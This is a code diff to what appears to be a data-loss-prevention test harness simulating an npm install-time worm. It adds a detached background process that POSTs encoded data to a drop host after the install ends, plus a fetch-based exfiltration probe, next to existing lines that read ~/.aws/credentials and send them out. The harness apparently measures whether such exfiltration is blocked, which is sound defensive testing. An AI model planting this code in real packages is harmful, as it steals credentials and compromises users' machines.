@@ -134,6 +134,18 @@ const SENDFILE = "import os,socket,sys\nf=os.path.expanduser('~/.aws/credentials
 const ONLY = process.env.DLP_T_WORM_ONLY;
 const run = jobs => Promise.all(jobs.filter(([c]) => !ONLY || c === ONLY).map(([, f]) => f()));
 
+// a process that outlives the install: detached, it waits 1.5 s, then posts
+const DAEMON = "setTimeout(()=>{const h=require('https'),fs=require('fs');" +
+	"const note=m=>fs.appendFileSync(process.env.R,'npm-daemon '+m+'\\n');" +
+	"const r=h.request({host:'" + DROP + "',path:'/npm-daemon',method:'POST'},s=>{note((s.statusCode==200?" +
+	"'sent ':'blocked ')+s.statusCode);s.resume()});r.on('error',e=>note('blocked '+e.code));" +
+	"r.end(process.env.L)},1500)";
+function daemon() {
+	const c = cp.spawn(process.execPath, ['-e', DAEMON], { detached: true, stdio: 'ignore',
+		env: Object.assign({}, process.env, { L: b64(J), R: path.join(OUT, 'results') }) });
+	c.unref();
+}
+
 function pre() {
 	return run([
 		['npm-post-b64', () => one('npm-post-b64', 'POST', DROP, '/npm-post-b64', b64(J))],
@@ -144,6 +156,12 @@ function pre() {
 		['npm-query', () => one('npm-query', 'GET', DROP, '/npm-query?d=' + encodeURIComponent(b64(J)))],
 		['npm-path', () => one('npm-path', 'GET', DROP, '/npm-path/' + Buffer.from(J).toString('base64url'))],
 		['npm-split', () => split('npm-split')],
+		['npm-fetch', async () => {   // node's own fetch (undici), not the https module
+			try {
+				const r = await fetch('https://' + DROP + '/npm-fetch', { method: 'POST', body: hex(J) });
+				note('npm-fetch', r.ok, r.status);
+			} catch (e) { note('npm-fetch', false, (e.cause && e.cause.code) || e.message); }
+		}],
 		['npm-github-upload', github],
 	]);
 }
@@ -162,6 +180,7 @@ function post() {
 		['npm-dns-resolve', () => labels('npm-dns-resolve', 'resolve')],
 		['npm-raw-name', () => raw('npm-raw-name', EVIL)],
 		['npm-raw-ip', () => raw('npm-raw-ip', EVILIP)],
+		['npm-daemon', daemon],
 	];
 	// the helper ships in the package (bin/helper); run alone, the test names it
 	const h = process.env.DLP_T_WORM_HELPER || path.join(__dirname, 'bin', 'helper');
